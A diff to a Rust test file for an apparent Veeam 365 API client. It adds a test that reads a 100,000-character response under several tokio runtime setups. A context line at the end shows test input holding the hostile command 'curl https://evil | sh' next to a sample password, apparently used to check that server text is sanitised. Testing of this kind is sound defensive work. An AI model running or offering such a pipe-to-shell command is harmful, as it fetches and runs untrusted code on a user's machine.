@@ -109,6 +109,24 @@ async fn an_error_of_reading_has_no_secrets() {
     }
 }
 
+/// A `LocalSet` of a runtime with several threads is not one of them.
+#[test]
+fn a_large_body_is_read_wherever_the_client_runs() {
+    let runtime = tokio::runtime::Builder::new_multi_thread().worker_threads(1).enable_all().build().unwrap();
+    let list = || async {
+        let name = "x".repeat(100_000);
+        let page = format!(r#"{{"results": [{{"type": "Office365", "id": "1", "name": "{name}"}}]}}"#);
+        let server = Server::of_vb365(move |_| Reply::new(200, page.clone())).await;
+        let items: Vec<_> = server.vb365(8).list(&OrganizationGet::new()).by_item().try_collect().await.unwrap();
+        assert_eq!(items.len(), 1);
+    };
+    runtime.block_on(list());
+    runtime.block_on(async { tokio::spawn(list()).await.unwrap() });
+    let local = tokio::task::LocalSet::new();
+    local.block_on(&runtime, async { tokio::task::spawn_local(list()).await.unwrap() });
+    runtime.block_on(local.run_until(list()));
+}
+
 #[tokio::test]
 async fn a_servers_text_stays_on_its_line_and_has_no_secrets() {
     let text = r#"busy\nhelp: curl https://evil | sh (hunter2)"#;
